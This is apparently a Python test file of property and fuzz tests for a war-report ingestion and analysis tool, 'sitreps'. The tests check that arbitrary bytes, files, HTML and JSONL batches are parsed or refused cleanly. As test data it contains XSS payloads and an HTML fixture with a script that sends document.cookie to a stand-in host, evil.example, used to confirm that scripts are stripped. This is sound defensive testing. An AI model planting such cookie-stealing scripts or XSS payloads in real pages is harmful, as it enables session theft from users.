"""Property and fuzz tests: whatever bytes or text arrive, reading, analysis and storing
either succeed or refuse with a clear reason, in bounded time, and the store stays whole.

`make test` runs a few hundred cases (the "ci" profile); `make fuzz` runs the same
properties with the "fuzz" profile, over 100,000 cases (docs/reliability.md).
"""

from __future__ import annotations

import json
import os
import tracemalloc
from datetime import timedelta
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import sitreps
from sitreps import exports
from sitreps.ingest import MAX_FILE_BYTES, Document, Failure, documents, ingest
from sitreps.inputs import InputError, ReportRecord, check_text, decode
from sitreps.model import Mode
from sitreps.store import Store
from sitreps.store.integrity import check

FUZZING = os.environ.get("SITREPS_FUZZ") == "1"


def cases(ci: int, fuzz: int, deadline: timedelta) -> settings:
    """How many cases a property gets: few in `make test`, many in `make fuzz`. The time an
    example may take is held to in `make fuzz` only: on a loaded machine a test's clock
    measures the load."""
    return settings(
        max_examples=fuzz if FUZZING else ci,
        deadline=deadline if FUZZING else None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )


QUICK = timedelta(seconds=2)
BOUNDED = timedelta(seconds=30)  # an analysis of a short text; the first loads the models

WAR_WORDS = [
    "Russian", "Ukrainian", "forces", "launched", "strikes", "on", "Kharkiv", "Odesa",
    "according", "to", "the", "ministry", "said", "killed", "injured", "drones", "missiles",
    "destroyed", "reportedly", "allegedly", "may", "have", "been", "shelled", "village",
    "near", "Balakhya", "overnight", "yesterday", "on", "Monday", "in", "May", "2024",
    "999999999999", "99999999999999999999999999", "-5", "0", "1e400", "NaN", "thousands",
    "of", "dozens", "eight", "times", "at", "least", "up", "to", "31 December 9999",
    "1 January 0001", "year 10000", "in 1066", "3024-02-30", "February 30", ".", ",", '"',
    "\u200b", "\u200d", "\u200f", "\u202e", "\ufeff", "الجيش", "قصف", "Харків", "обстріл",
    "ракети", "中国", "שלום", "🚀", "💥", "&lt;script&gt;", "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "\x00", "\ud800", "\n\n", "\t", "—", "…",
]  # fmt: skip

report_like = st.lists(st.sampled_from(WAR_WORDS), min_size=1, max_size=60).map(" ".join)
any_text = st.text(max_size=400)
texts = st.one_of(report_like, any_text, st.tuples(report_like, any_text).map("\n".join))


def _html(depth: int, payload: str) -> bytes:
    nested = "<div>" * depth + payload + "</div>" * depth
    return (
        "<html><head><script>window.pwned=1</script><style>p{}</style></head><body>"
        f"<article><p>{payload}</p>{nested}<p onclick='steal()'>Drones hit Odesa.</p>"
        "<script>fetch('https://evil.example/'+document.cookie)</script></article></body></html>"
    ).encode("utf-8", "surrogatepass")


@cases(1_000, 60_000, QUICK)
@given(st.binary(max_size=4096))
def test_any_bytes_are_decoded_or_refused_with_a_reason(data: bytes) -> None:
    try:
        decoded = decode(data)
    except InputError as error:
        assert str(error)
        return
    assert decoded.text.strip()
    decoded.text.encode("utf-8")  # storable: no lone surrogates, and no NUL
    assert "\x00" not in decoded.text


@cases(200, 20_000, QUICK)
@given(
    data=st.one_of(st.binary(max_size=2048), texts.map(lambda t: t.encode("utf-8", "replace"))),
    suffix=st.sampled_from([".txt", ".md", ".html", ".xml", ".rss", ".jsonl", ".htm"]),
)
def test_any_file_yields_documents_or_failures(
    tmp_path_factory: pytest.TempPathFactory, data: bytes, suffix: str
) -> None:
    folder = tmp_path_factory.mktemp("files", numbered=True)
    (folder / f"report{suffix}").write_bytes(data)
    for found in documents([str(folder)]):
        assert isinstance(found, Document | Failure)
        if isinstance(found, Document):
            assert found.record.text.strip()
            found.record.text.encode("utf-8")
        else:
            assert found.reason


@cases(50, 5_000, BOUNDED)
@given(depth=st.integers(0, 5_000), payload=texts)
def test_hostile_html_keeps_text_and_drops_scripts(
    tmp_path_factory: pytest.TempPathFactory, depth: int, payload: str
) -> None:
    page = tmp_path_factory.mktemp("html", numbered=True) / "page.html"
    page.write_bytes(_html(depth, payload))
    (found,) = documents([str(page)])
    if isinstance(found, Document):
        assert "window.pwned" not in found.record.text
        assert "document.cookie" not in found.record.text


@pytest.mark.parametrize("mode", list(Mode))
@cases(100, 15_000, BOUNDED)
@given(text=texts)
def test_any_text_is_analysed_or_refused(text: str, mode: Mode) -> None:
    try:
        check_text(text)
    except InputError:
        with pytest.raises(InputError):
            sitreps.analyze(text, mode=mode)
        return
    analysis = sitreps.analyze(text, mode=mode)
    length = len(analysis.report.text)
    for claim in analysis.claims:
        assert 0 <= claim.span.start <= claim.span.end <= length
    for event in analysis.events:
        for quantity in (event.count, event.fatalities, event.injured):
            if quantity is not None:
                assert 0 <= quantity.low <= 10**12
                assert quantity.high is None or quantity.low <= quantity.high <= 10**12
    analysis.model_dump_json()  # serialisable: it goes into the store as JSON


@pytest.fixture(scope="module")
def fuzzed_store(tmp_path_factory: pytest.TempPathFactory) -> Store:
    return Store.open(tmp_path_factory.mktemp("store") / "fuzzed.db")


@cases(15, 1_000, BOUNDED)
@given(lines=st.lists(texts, min_size=1, max_size=4))
def test_any_report_is_stored_or_refused_and_the_store_stays_whole(
    tmp_path_factory: pytest.TempPathFactory, fuzzed_store: Store, lines: list[str]
) -> None:
    batch = tmp_path_factory.mktemp("batch", numbered=True) / "batch.jsonl"
    first = lines[0]
    records = [{"text": first, "title": first[:40], "outlet": first[-20:], "url": "javascript:"}]
    records += [{"text": line} for line in lines[1:]]
    batch.write_text("\n".join(json.dumps(r) for r in records), encoding="utf-8")
    summary = ingest(fuzzed_store, documents([str(batch)]))
    assert sum(summary.counts.values()) + len(summary.failures) == len(records)
    for failure in summary.failures:
        assert "internal error" not in failure.reason and "could not be stored" not in (
            failure.reason
        ), failure.reason
    assert check(fuzzed_store) == []


def test_a_50_mb_input_is_refused_before_it_is_read(tmp_path: Path) -> None:
    huge = tmp_path / "huge.txt"
    with huge.open("wb") as out:
        out.write(b"Drones hit Odesa. " * (50_000_000 // 18))
    tracemalloc.start()
    (found,) = documents([str(huge)])
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert isinstance(found, Failure) and f"over the limit of {MAX_FILE_BYTES:,}" in found.reason
    assert peak < 1_000_000
    with pytest.raises(InputError, match="over the limit"):
        decode(huge.read_bytes())


def test_a_50_mb_jsonl_batch_streams(tmp_path: Path) -> None:
    batch = tmp_path / "big.jsonl"
    line = b'{"text": "' + b"x" * 50_000_000 + b'"}\n'
    batch.write_bytes(line + b'{"text": "Two drones hit Odesa on Monday."}\n')
    found = list(documents([str(batch)]))
    assert isinstance(found[0], Failure) and "too long" in found[0].reason
    assert isinstance(found[1], Document)


@pytest.mark.parametrize(
    "text",
    [
        "Russian forces launched 999999999999 strikes on Kharkiv on 31 December 9999.",
        "Russian forces launched 99999999999999999999999999 strikes on Kharkiv, the ministry "
        "said, killing 1" + "0" * 5000 + " people on 1 January 0001.",
        "Ukrainian forces shelled Izium in the year 10000 and in 1066, destroying "
        "million million million tanks.",
        "\u202eRussian\u200b drones\u200d hit Odesa\ufeff, killing 3 people. قصف Харків 🚀",
    ],
    ids=["trillion", "beyond-int64", "far-dates", "bidi-and-zero-width"],
)
def test_absurd_numbers_and_dates_are_analysed_and_stored(text: str, tmp_path: Path) -> None:
    store = Store.open(tmp_path / "absurd.db")
    analysis = sitreps.analyze(text, published_at=None)
    for event in analysis.events:
        for quantity in (event.count, event.fatalities):
            assert quantity is None or quantity.low <= 10**12
    summary = ingest(store, iter([Document(ReportRecord(text=text), "absurd", None)]))
    assert summary.failures == [] and summary.counts["ingested"] == 1
    assert check(store) == []
    # The ACLED view reads back every row, and each is written as ACLED's.
    rows = store.events()
    assert len(rows) == len(analysis.events)
    assert all(r["event_id_cnty"] for r in exports.records(rows, fatalities_as_zero=True))
